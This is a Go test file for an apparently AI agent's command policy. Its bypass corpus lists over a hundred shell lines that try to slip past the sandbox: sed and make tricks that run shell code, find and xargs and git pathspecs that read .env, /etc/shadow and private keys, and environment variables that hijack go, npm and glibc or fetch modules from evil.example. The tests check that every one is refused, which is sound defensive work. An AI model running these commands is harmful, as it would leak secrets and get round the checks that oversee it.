package policy_test

import (
	"strings"
	"testing"

	"github.com/trioagent/trio/policy"
)

// corpusScope is where the shipped policies' workspace lies in these tests.
var corpusScope = policy.Scope{Workspace: "/home/me/out", Aliases: []string{"/workspace"}}

// bypass is one attempt to get past a shipped policy: each ran for real
// does what why says (on a host without the sandbox, or inside it against
// the workspace). None may be allowed by either shipped policy; an ask is
// a refusal unattended and a question to a person interactively.
type bypass struct {
	class, line, why string
}

// bypasses is the adversarial corpus of issue 12, by class: the classes the
// issue names and new ones found while writing the specs (go doc -http,
// GOCACHEPROG, nested and bare repositories, node --inspect, abbreviations
// of coreutils' long options, find name predicates).
var bypasses = []bypass{
	// sed: bracket expressions hide the e flag and w files; w/r files and
	// the -i suffix are writes.
	{"sed", `sed 's/[/]/w x/e' main.go`, "a bracket with the delimiter hides the e flag: the pattern space runs as a shell command"},
	{"sed", `sed 's/[/]/w x/w /etc/cron.d/x' main.go`, "the w flag writes outside the workspace"},
	{"sed", `sed --expression='s/[/]/w x/e' main.go`, "e flag behind a bracket, long option"},
	{"sed", `sed -E 's/(a|[/])/w x/e' main.go`, "e flag behind a bracket in an ERE"},
	{"sed", `sed -n 's/x/y/pw vendor/a.go' main.go`, "w flag writes a read-only file"},
	{"sed", `sed 'w vendor/a.go' main.go`, "w command writes a read-only file"},
	{"sed", `sed 'W node_modules/x.js' main.go`, "W command writes a read-only file"},
	{"sed", `sed '-inode_modules/*' s/a/b/ main.go`, "the -i suffix with / puts the backup in a read-only folder"},
	{"sed", `sed --in-place=vendor/* s/a/b/ main.go`, "the --in-place suffix puts the backup in a read-only folder"},
	{"sed", `sed -i s/a/b/ vendor/a.go`, "-i rewrites a read-only file"},
	{"sed", `sed 's/[[:alpha:]/]/w x/e' main.go`, "a class inside a bracket hides the e flag"},
	{"sed", `sed --in-pl s/a/b/ vendor/a.go`, "an abbreviation of --in-place rewrites a read-only file"},
	{"sed", `sed -s -e 's/[/]//e' main.go`, "empty replacement, e flag behind a bracket"},

	// xargs: -a/--arg-file supplies words no check sees.
	{"xargs", `xargs -a list.txt cat`, "cat reads the files named in list.txt (.env, /etc/shadow)"},
	{"xargs", `xargs --arg-file=list.txt cat`, "the same with the long option"},
	{"xargs", `xargs -alist.txt cat`, "the same with the value attached"},
	{"xargs", `xargs -d '\n' -a list.txt head`, "head reads the listed files"},
	{"xargs", `xargs --arg-file list.txt grep -h .`, "grep prints the listed files"},
	{"xargs", `xargs -a list.txt -I{} cat {}`, "cat reads the listed files, one by one"},
	{"xargs", `echo .env | xargs cat`, "cat reads a denied file named on standard input"},
	{"xargs", `ls | xargs -I{} cp {} vendor/`, "cp writes into a read-only folder"},

	// find: {} inside a word, -files0-from, name predicates that select
	// denied files.
	{"find", `find app -name '*.go' -exec cp {} vendor/{} \;`, "{} inside a word: cp writes into vendor/"},
	{"find", `find app -exec touch node_modules/x{} \;`, "{} inside a word: touch writes a read-only folder"},
	{"find", `find app -exec sed -i s/a/b/ vendor/{} \;`, "{} inside a word: sed -i rewrites vendor/"},
	{"find", `find -files0-from list.bin -exec cat {} +`, "the starting points come from a file: cat reads /etc/shadow"},
	{"find", `find -files0-from=list.bin -print`, "the starting points come from a file"},
	{"find", `find . -name '.en*' -exec cat {} +`, "the name predicate selects .env"},
	{"find", `find . -path '*/.git/config' -exec cat {} +`, "the path predicate selects .git/config"},
	{"find", `find . -name 'id_*' -exec cat {} \;`, "the name predicate selects private keys"},
	{"find", `find . -iname '*.PEM' -exec head {} +`, "a case-insensitive name selects *.pem"},
	{"find", `find . -regex '.*env' -exec cat {} +`, "a regular expression selects .env"},
	{"find", `find . -name '.env*' -exec grep -h = {} +`, "grep prints .env"},
	{"find", `find . -wholename './.git/*' -exec cat {} +`, "the whole name selects .git"},

	// git: abbreviated long options, repositories no rule covers, pathspec
	// globs that read denied files out of history.
	{"git", `git diff --ext-diff`, "runs diff.external"},
	{"git", `git diff --ext-d`, "an abbreviation of --ext-diff"},
	{"git", `git log -p --ext-dif`, "an abbreviation of --ext-diff"},
	{"git", `git show --ext-diff HEAD`, "runs diff.external"},
	{"git", `git init --templ=tmpl`, "an abbreviation of --template installs hooks"},
	{"git", `git init --template=tmpl`, "installs hooks"},
	{"git", `git init --separate-git-dir=gd`, "a repository whose config (gd/config) no rule covers"},
	{"git", `git init sub`, "a nested repository: sub/.git/config is writable and runs programs (core.fsmonitor)"},
	{"git", `git init --bare x`, "a bare repository whose config and hooks are writable"},
	{"git", `git --git-dir=x log`, "runs the pager a writable config names"},
	{"git", `git -C sub status`, "works in a nested repository whose config is writable"},
	{"git", `git --work-tree=app status`, "another work tree"},
	{"git", `git log -p -- '*.env'`, "a pathspec glob prints a committed .env"},
	{"git", `git show HEAD -- '.en*'`, "a pathspec glob prints a committed .env"},
	{"git", `git log -p -- '*/id_rsa*'`, "a pathspec glob prints a committed key"},
	{"git", `git diff HEAD~1 -- '*.pe?'`, "a pathspec glob prints a committed certificate"},
	{"git", `git log --format=%H -p -- ':(glob)**/.env'`, "magic pathspec"},
	{"git", `git log -p -- ':!x' .env`, "exclude magic next to a denied path"},
	{"git", `git log -L 1,9:.env`, "a line range of a committed .env"},
	{"git", `git log -L '/SECRET/,+1:config/.env'`, "a line range found by a pattern"},

	// Environment assignments: variables that change what a program loads
	// or runs.
	{"env", `env XDG_CONFIG_HOME=. git status`, "git reads ./git/config, which can run programs"},
	{"env", `env GOROOT=./fake go build .`, "go runs the compiler and linker from ./fake"},
	{"env", `env PKG_CONFIG=./x go build .`, "cgo runs ./x"},
	{"env", `env FC=./x go build .`, "cgo runs ./x as the Fortran compiler"},
	{"env", `env AR=./x go build .`, "go runs ./x as the archiver"},
	{"env", `env GCONV_PATH=. cat main.go`, "glibc loads gconv modules from ."},
	{"env", `env PYTEST_ADDOPTS='-p evil' python3 -m pytest`, "adds options pytest parses"},
	{"env", `env PYTHONUSERBASE=. python3 -m pytest`, "a user site folder with .pth files runs code"},
	{"env", `env PYTHONWARNINGS=error::evil.X python3 -m pytest`, "imports module evil"},
	{"env", `env npm_config_script_shell=./x npm test`, "npm runs scripts with ./x"},
	{"env", `env NPM_CONFIG_USERCONFIG=./npmrc npm test`, "an npmrc can name a script shell"},
	{"env", `env GOPROXY=http://evil.example go build .`, "downloads modules from elsewhere"},
	{"env", `env GOCACHEPROG=./x go build .`, "go runs ./x as its cache"},
	{"env", `env GOAUTH='./x' go build .`, "go runs ./x for credentials"},
	{"env", `env ZDOTDIR=. zsh -c ls`, "zsh runs ./.zshenv first"},
	{"env", `env PERL5DB='system 1' perl -d x.pl`, "perl runs the debugger code"},
	{"env", `env GIT_CONFIG_GLOBAL=./gc git status`, "git reads ./gc"},
	{"env", `XDG_CONFIG_HOME=. git status`, "shell prefix: git reads ./git/config"},
	{"env", `export GOROOT=./fake; go build .`, "export reaches go"},
	{"env", `GCONV_PATH=. cat main.go`, "shell prefix: gconv modules"},

	// Option values: nested values, values with blanks, linker programs.
	{"values", `go build -ldflags=-o=/tmp/x .`, "the linker writes the binary outside the workspace"},
	{"values", `go build -ldflags '-o /tmp/x' .`, "the same, as two linker words in one value"},
	{"values", `go build -ldflags=-extar=./x .`, "the linker runs ./x as ar"},
	{"values", `go build -ldflags=-tmpdir=/tmp/x .`, "the linker writes outside"},
	{"values", `go build '-ldflags=-r /tmp' -ldflags=-extldflags=-x .`, "extldflags pass options to the external linker"},
	{"values", `go build -gcflags=all=-importcfg=/etc/x .`, "the compiler reads an import config outside"},
	{"values", `python3 -m pytest --override-ini=cache_dir=.git`, "pytest writes its cache into .git"},
	{"values", `python3 -m pytest -o cache_dir=/tmp/x`, "pytest writes its cache outside"},
	{"values", `pytest --override-ini=cache_dir=vendor`, "pytest writes its cache into a read-only folder"},
	{"values", `go test ./... -args -test.coverprofile=vendor/c.out`, "the test binary writes a read-only file"},
	{"values", `go test -test.coverprofile=vendor/c.out ./...`, "test binary flag writes a read-only file"},
	{"values", `go test ./... -test.outputdir=vendor`, "test binary flag writes a read-only folder"},
	{"values", `grep -r --include='.en*' SECRET .`, "a glob in --include reads .env"},
	{"values", `grep -r --include='*.pe?' KEY .`, "a glob in --include reads certificates"},

	// Interpreters and scripts outside the workspace.
	{"interp", `python3 /usr/lib/python3.11/http/server.py 8000`, "a network server from the standard library"},
	{"interp", `python3 /usr/lib/python3.11/timeit.py 'import os; os.system("id")'`, "timeit runs inline code"},
	{"interp", `python3 /usr/lib/python3/dist-packages/pip/__main__.py install x`, "pip installs a package"},
	{"interp", `node /usr/lib/node_modules/npm/bin/npm-cli.js install x`, "npm installs a package"},
	{"interp", `node '--import=data:text/javascript,process.exit(1)//.js'`, "inline code through --import"},
	{"interp", `node --test --import=data:text/javascript,1`, "inline code through --import"},
	{"interp", `node --test --experimental-loader=data:text/javascript,1`, "inline code through a loader"},
	{"interp", `node --test --inspect=0.0.0.0:9229`, "opens a debugger port that runs code for whoever connects"},
	{"interp", `python3 /root/go/pkg/mod/x@v1/evil.py`, "a script in the module cache"},
	{"interp", `node /usr/share/nodejs/x/cli.js`, "a script from the system"},

	// Writes the policy did not know about.
	{"writes", `python3 -m pytest --basetemp=vendor`, "pytest removes the folder"},
	{"writes", `python3 -m pytest --basetemp=.`, "pytest removes the workspace"},
	{"writes", `pytest --junitxml=vendor/r.xml`, "writes a read-only file"},
	{"writes", `pytest --junit-xml=node_modules/r.xml`, "writes a read-only file"},
	{"writes", `node --test --test-reporter=spec --test-reporter-destination=vendor/x`, "writes a read-only file"},
	{"writes", `go fmt ./vendor/...`, "rewrites vendored files"},
	{"writes", `python3 -m compileall vendor`, "writes __pycache__ into vendor"},
	{"writes", `python3 -m py_compile vendor/x.py`, "writes vendor/__pycache__"},
	{"writes", `sort --files0-from=list.bin`, "sort reads the files listed: .env"},
	{"writes", `wc --files0-from=list.bin`, "wc reads the files listed"},
	{"writes", `cp --target-dir=vendor main.go`, "an abbreviation of --target-directory copies into vendor"},
	{"writes", `mv --target=vendor main.go`, "an abbreviation of --target-directory"},
	{"writes", `env -C vendor go mod init x`, "writes vendor/go.mod"},
	{"writes", `env -C vendor git init`, "creates a repository in a read-only folder"},
	{"writes", `go doc -http=:6060 fmt`, "starts a web server and runs a browser"},
	{"values", `go vet ./... -vettool=./x`, "go vet reads flags after its packages: runs ./x"},
	{"values", `go test ./... -exec=./x`, "go test reads flags after its packages: runs ./x"},
	{"writes", `go test -json -o=vendor/x.test ./...`, "writes a read-only file"},
	{"writes", `sort -T /tmp -o x main.go`, "a temporary folder outside"},

	// Programs a run may build and run, misused.
	{"programs", `./.git/hooks/pre-commit`, "a hook"},
	{"programs", `bash /tmp/x.sh`, "a script outside the workspace"},
	{"programs", `bash`, "a shell reading its script from standard input"},
	{"programs", `make SHELL=./x`, "make runs recipes with ./x"},
	{"programs", `make -f /tmp/Makefile`, "a makefile outside"},
	{"programs", `make --eval='$(shell id)'`, "make evaluates inline code"},
	{"programs", `make -C /tmp`, "runs in a folder outside"},
	{"programs", `chmod -R 000 vendor`, "changes read-only files"},
	{"programs", `chmod 4755 /usr/bin/x`, "changes a file outside"},
	{"programs", `npm test --script-shell=./x`, "npm runs scripts with ./x"},
	{"programs", `npm run build --userconfig=./npmrc`, "an npmrc can name a script shell"},
	{"programs", `npm test --registry=http://evil.example`, "another registry"},
	{"programs", `npm test --workspace=../other`, "runs the scripts of a package outside the workspace"},
}

// TestBypassCorpus runs the corpus against the shipped unattended and
// interactive policies: none may be allowed. It logs the count per class,
// which is how the before/after numbers in the issue were measured.
func TestBypassCorpus(t *testing.T) {
	t.Parallel()
	if len(bypasses) < 120 {
		t.Errorf("%d bypass cases, want at least 120", len(bypasses))
	}
	for _, name := range []string{"policy.unattended.yaml", "policy.interactive.yaml"} {
		p, err := policy.Load("../configs/" + name)
		if err != nil {
			t.Fatal(err)
		}
		through := map[string]int{}
		total := 0
		for _, b := range bypasses {
			d := p.CheckCommand(mustParse(t, b.line), corpusScope)
			if d.Verdict == policy.Allow {
				through[b.class]++
				total++
				t.Errorf("%s allows %q (%s): %s: %s", name, b.line, b.why, d.Rule, d.Reason)
			}
		}
		t.Logf("%s: %d of %d bypasses allowed %v", name, total, len(bypasses), through)
	}
}

func mustParse(t *testing.T, line string) policy.Command {
	t.Helper()
	cmd, err := policy.ParseCommand(line)
	if err != nil {
		// The line does not even parse: the gate refuses it before the
		// policy, so it is judged as a line (denied).
		return policy.Command{Line: line, Shell: true}
	}
	return cmd
}

// everyday is a command an agent needs for small Go, Python and Node
// projects, and what the shipped unattended policy must say; a refusal
// carries its justification.
type everyday struct {
	line string
	want policy.Verdict
	why  string // for refusals: why it stays refused, and what to do instead
	// reason is a substring the refusal's reason must contain (the hint).
	reason string
}

var everydayCommands = []everyday{
	{line: "go build ./..."},
	{line: "go build -o bin/app ./cmd/app"},
	{line: "go test ./..."},
	{line: "go test -race -count=1 ./..."},
	{line: "go test -run 'TestA|TestB' -v ./pkg/..."},
	{line: "go test -cover -coverprofile=cover.out ./..."},
	{line: "go test ./... -run TestX -count=1"},
	{line: "go vet ./..."},
	{line: "go run ./cmd/app --help"},
	{line: "go run . -v"},
	{line: "go mod tidy"},
	{line: "go mod init example.com/app"},
	{line: "go fmt ./..."},
	{line: "go list -m all"},
	{line: "go list -f '{{.ImportPath}}' ./..."},
	{line: "go doc fmt.Println"},
	{line: "go env GOPATH GOMODCACHE"},
	{line: "go version"},
	{line: "gofmt -l ."},
	{line: "gofmt -w main.go cmd internal"},
	{line: "go build -ldflags='-s -w -X main.version=1' ."},
	{line: "env CGO_ENABLED=0 GOOS=linux go build -o bin/app ."},
	{line: "timeout 60 go test ./..."},
	{line: "python3 --version"},
	{line: "python3 -V"},
	{line: "python3 -m pytest -q"},
	{line: "python3 -m pytest -x -k 'not slow' tests/test_cli.py::test_help"},
	{line: "python3 -m pytest --tb=short -p no:cacheprovider tests"},
	{line: "python3 -m unittest discover -s tests -v"},
	{line: "python3 -m py_compile app/main.py"},
	{line: "python3 app.py --help"},
	{line: "python3 -B src/app/main.py input.txt"},
	{line: "pytest -q tests"},
	{line: "env PYTHONDONTWRITEBYTECODE=1 python3 -m pytest -q"},
	{line: "node --version"},
	{line: "node --test"},
	{line: "node --test test/"},
	{line: "node index.js --help"},
	{line: "node src/cli.mjs"},
	{line: "npm test"},
	{line: "npm run build"},
	{line: "npm run test -- --watch=false"},
	{line: "npm --version"},
	{line: "make"},
	{line: "make test"},
	{line: "make -j2 build"},
	{line: "chmod +x ./script.sh"},
	{line: "chmod 755 bin/tool"},
	{line: "./script.sh"},
	{line: "./bin/tool --help"},
	{line: "bash ./script.sh arg"},
	{line: "sh scripts/check.sh"},
	{line: "ls -la"},
	{line: "ls -R src"},
	{line: "cat README.md"},
	{line: "head -n 20 main.go"},
	{line: "tail -n 5 go.mod"},
	{line: "go test -v ./... 2>&1 | tail -30"},
	{line: "wc -l main.go app.py"},
	{line: "grep -rn TODO --include=*.go ."},
	{line: "grep -rn 'func main' --include='*.go' ."},
	{line: "grep -c import main.go"},
	{line: "cut -d: -f1 data.txt"},
	{line: "sort -u names.txt"},
	{line: "uniq -c sorted.txt"},
	{line: "diff -u a.txt b.txt"},
	{line: "find . -name '*.go' -not -path './vendor/*'"},
	{line: "find . -name '*.go' -exec gofmt -l {} +"},
	{line: "find build -name '*.tmp' -delete"},
	{line: "sed -n 1,20p main.go"},
	{line: "sed -i 's/foo/bar/g' main.go"},
	{line: "stat main.go"},
	{line: "tree -L 2"},
	{line: "mkdir -p cmd/app internal/x"},
	{line: "touch app/__init__.py"},
	{line: "cp main.go main.go.bak"},
	{line: "cp -r src build"},
	{line: "mv old.go new.go"},
	{line: "rm -f build/out.txt"},
	{line: "rm -rf build"},
	{line: "echo done"},
	{line: "pwd"},
	{line: "which go"},
	{line: "test -f go.mod"},
	{line: "git status"},
	{line: "git diff --stat"},
	{line: "git log --oneline -n 5"},
	{line: "git show HEAD --stat"},
	{line: "git add -A"},
	{line: "git commit -m 'add cli'"},
	{line: "git init"},
	{line: "git rev-parse HEAD"},
	{line: "go test ./... 2>&1 | tail -n 20"},
	{line: "go vet ./... | head"},
	{line: "git log --oneline | sed -n 1,5p"},
	{line: "ls | wc -l"},
	{line: "grep -rn TODO . | head -n 5"},
	// Refusals that stay, each with its reason.
	{line: "go get example.com/m", want: policy.Ask, why: "needs the network and a person; unattended runs are refused"},
	{line: "pip install requests", want: policy.Ask, why: "needs the network and a person"},
	{line: "npm install left-pad", want: policy.Ask, why: "needs the network and a person"},
	{line: "go test ./... > out.txt"},
	{line: "go test ./... > /tmp/out.txt", want: policy.Deny, why: "a redirection is a write, outside the workspace here", reason: "outside the workspace"},
	{line: "gofmt -w .", want: policy.Deny, why: "would rewrite vendor/, which is read-only; name the folders", reason: "read-only"},
	{line: "python3 -c 'print(1)'", want: policy.Deny, why: "inline code cannot be judged; write a script", reason: "inline"},
}

// TestEverydayCommands is the usefulness table: at least 90% of the
// everyday commands are allowed by the shipped unattended policy, and each
// refusal is the one the table expects, with its justification.
func TestEverydayCommands(t *testing.T) {
	t.Parallel()
	p, err := policy.Load("../configs/policy.unattended.yaml")
	if err != nil {
		t.Fatal(err)
	}
	allowed := 0
	for _, e := range everydayCommands {
		want := e.want
		if e.why == "" {
			want = policy.Allow
		}
		d := p.CheckCommand(mustParse(t, e.line), corpusScope)
		if d.Verdict == policy.Allow {
			allowed++
		}
		if d.Verdict != want {
			t.Errorf("%q = %v (%s: %s), want %v", e.line, d.Verdict, d.Rule, d.Reason, want)
		}
		if e.reason != "" && !strings.Contains(d.Reason, e.reason) {
			t.Errorf("%q: reason %q lacks %q", e.line, d.Reason, e.reason)
		}
	}
	if pct := 100 * allowed / len(everydayCommands); pct < 90 {
		t.Errorf("%d of %d everyday commands allowed (%d%%), want at least 90%%", allowed, len(everydayCommands), pct)
	}
	t.Logf("%d of %d everyday commands allowed unattended", allowed, len(everydayCommands))
}
